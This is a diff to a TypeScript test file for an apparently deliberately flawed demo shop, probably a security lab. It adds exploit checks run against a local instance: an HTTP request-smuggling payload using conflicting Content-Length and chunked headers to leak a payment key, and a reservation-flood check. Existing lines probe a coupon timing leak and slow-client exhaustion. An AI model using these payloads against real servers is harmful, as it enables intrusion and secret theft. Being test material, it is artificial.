@@ -7,6 +7,7 @@ import type { AddressInfo } from 'node:net'
 import { join } from 'node:path'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { flaws } from '../src/index.ts'
+import { heldAtMost } from '../src/state/holds.ts'
 import { headTimeoutMs, weakConnections } from '../src/start-shop.ts'
 import type { FlawId, RunningShop } from '../src/index.ts'
 import { createClient } from './client.ts'
@@ -202,6 +203,25 @@ const exploits: Readonly<Record<FlawId, (scene: Scene) => Promise<boolean>>> = {
     const long = await s.client.form('/cart/coupon', { code: `${'A'.repeat(25)}!` })
     const short = await s.client.form('/cart/coupon', { code: 'AA!' })
     return long.ms > short.ms + 100
+  },
+  'smuggle-warehouse': async (s) => {
+    const body = 'product=7GET /label-key HTTP/1.1\r\n\r\n'
+    const socket = connect(s.shop.port, '127.0.0.1')
+    socket.on('error', () => undefined)
+    socket.write(
+      `POST /stock/notify HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9\r\nTransfer-Encoding: chunked\r\n\r\n${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
+    )
+    // The answer, or the end of a connection whose request was refused.
+    await new Promise((resolve) => socket.once('data', resolve).once('close', resolve))
+    socket.destroy()
+    const { text } = await s.client.form('/stock/notify', { product: '8' })
+    return text.includes(s.shop.shop.secrets.paymentKey)
+  },
+  'hold-flood': async (s) => {
+    const { holds } = s.shop.shop
+    for (let i = 3; i < heldAtMost; i += 1) holds.take('others', Date.now(), Infinity)
+    for (let i = 0; i < 3; i += 1) await s.client.form('/stock/hold', {})
+    return !holds.take('somebody else', Date.now(), 1)
   },
   'slow-client': async (s) => {
     const sockets = Array.from({ length: weakConnections + 20 }, () => {
